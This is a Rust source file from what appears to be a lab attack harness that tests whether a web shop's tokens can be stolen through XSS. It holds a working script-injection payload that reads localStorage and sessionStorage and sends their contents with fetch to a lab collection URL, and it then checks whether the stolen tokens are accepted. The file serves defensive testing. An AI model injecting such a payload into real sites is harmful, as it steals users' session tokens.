//! Script reads what the page has stored.

use std::time::Duration;

use serde_json::Value;

use crate::attack::{
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "xss-local-storage",
    title: "Script reads what the page has stored",
    has: "a hole in the shop's page, through which his script gets in",
    does: "reads localStorage and sessionStorage, and sends home what is in them",
    gains: "the tokens, to use from anywhere, for as long as they live",
    source: "OWASP HTML5 Security Cheat Sheet, Local Storage; RFC 9700 section 4.3",
    expected: Expected::EVERYWHERE.not_careless_session("its page stores nothing"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (owner, page) = stage.visitor("owner").await?;
    let mailbox = stage.lab.places.mailbox();
    let hole = format!(
        "<script>fetch('{}?x=' + encodeURIComponent(JSON.stringify({{ ...localStorage, ...sessionStorage }})))</script>",
        mailbox.url
    );
    page.open(&stage.home(&hole)).await?;
    stage.greets(&page, &owner).await?;
    stage.show(&page, "the page after the script has read what is stored").await?;
    let hits = mailbox.wait(Duration::from_secs(5)).await;
    let taken = hits.first().and_then(|hit| hit.parameter("x")).ok_or("the script sent nothing")?;
    let stored: Value = serde_json::from_str(&taken)?;
    for value in stored.as_object().into_iter().flat_map(|all| all.values()).filter_map(Value::as_str) {
        let answer = stage.target.verify_token(value).await?;
        if answer.is_ok() {
            return Ok(Found::Worked("the token was in localStorage, and is accepted from elsewhere".to_owned()));
        }
    }
    Ok(Found::Refused(format!("what was stored: {taken}")))
}
